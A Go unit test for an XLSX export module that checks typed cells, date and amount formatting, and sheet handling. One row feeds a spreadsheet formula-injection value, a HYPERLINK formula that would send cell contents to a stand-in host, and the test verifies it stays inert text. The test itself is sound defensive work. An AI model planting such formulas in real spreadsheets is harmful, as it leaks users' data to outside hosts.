package documents

import (
	"bytes"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/postprod/postprod/internal/kernel/dates"
	"github.com/postprod/postprod/internal/kernel/money"
)

func TestXLSXTypedCells(t *testing.T) {
	x, err := NewXLSX()
	if err != nil {
		t.Fatal(err)
	}
	s, err := x.Sheet("Relevé", "Œuvre", "Montant", "Date", "Saisi le", "Lignes", "Résiduel")
	if err != nil {
		t.Fatal(err)
	}
	day := dates.Date{Year: 2026, Month: 11, Day: 29}
	at := time.Date(2026, 11, 29, 23, 30, 0, 0, time.UTC) // 00:30 on the 30th in Paris
	if err := s.Row(`=HYPERLINK("http://x/?"&A1,"y")`, money.Cents(-123456), day, at, 3, true); err != nil {
		t.Fatal(err)
	}
	if err := s.Row("Sans date", money.Cents(5), (*dates.Date)(nil), nil, int64(0), false); err != nil {
		t.Fatal(err)
	}
	if err := s.Row(struct{}{}); err == nil {
		t.Error("an unknown cell type was accepted")
	}
	second, err := x.Sheet("Totaux", "Total")
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Row("late"); err == nil {
		t.Error("a finished sheet took a row")
	}
	if err := second.Row(money.Cents(42)); err != nil {
		t.Fatal(err)
	}
	b, err := x.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); len(got) != 2 || got[0] != "Relevé" || got[1] != "Totaux" {
		t.Fatalf("sheets %v", got)
	}
	get := func(sheet, cell string) string {
		v, err := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	if get("Relevé", "A1") != "Œuvre" || get("Relevé", "B1") != "Montant" {
		t.Error("heading row")
	}
	if get("Relevé", "A2") != `=HYPERLINK("http://x/?"&A1,"y")` {
		t.Errorf("title %q", get("Relevé", "A2"))
	}
	if fo, _ := f.GetCellFormula("Relevé", "A2"); fo != "" {
		t.Errorf("the title became a formula: %q", fo)
	}
	if typ, _ := f.GetCellType("Relevé", "A2"); typ == excelize.CellTypeFormula {
		t.Error("the title's cell is a formula")
	}
	if get("Relevé", "B2") != "-1234.56" || get("Relevé", "B3") != "0.05" || get("Totaux", "A2") != "0.42" {
		t.Errorf("amounts %q %q %q", get("Relevé", "B2"), get("Relevé", "B3"), get("Totaux", "A2"))
	}
	// Excel's serial day 46355 is 29 November 2026; the instant is shown on
	// the 30th at 00:30, Paris time.
	if get("Relevé", "C2") != "46355" {
		t.Errorf("date serial %q", get("Relevé", "C2"))
	}
	if v, _ := f.GetCellValue("Relevé", "C2"); v != "29/11/2026" {
		t.Errorf("date shown as %q", v)
	}
	if v, _ := f.GetCellValue("Relevé", "D2"); v != "30/11/2026 00:30" {
		t.Errorf("instant shown as %q", v)
	}
	if get("Relevé", "E2") != "3" || get("Relevé", "F2") != "1" || get("Relevé", "C3") != "" || get("Relevé", "D3") != "" {
		t.Errorf("other cells %q %q %q %q", get("Relevé", "E2"), get("Relevé", "F2"), get("Relevé", "C3"), get("Relevé", "D3"))
	}
	style, _ := f.GetCellStyle("Relevé", "B2")
	st, err := f.GetStyle(style)
	if err != nil || st.CustomNumFmt == nil || *st.CustomNumFmt != amountFormat {
		t.Errorf("amount style %+v", st)
	}
}
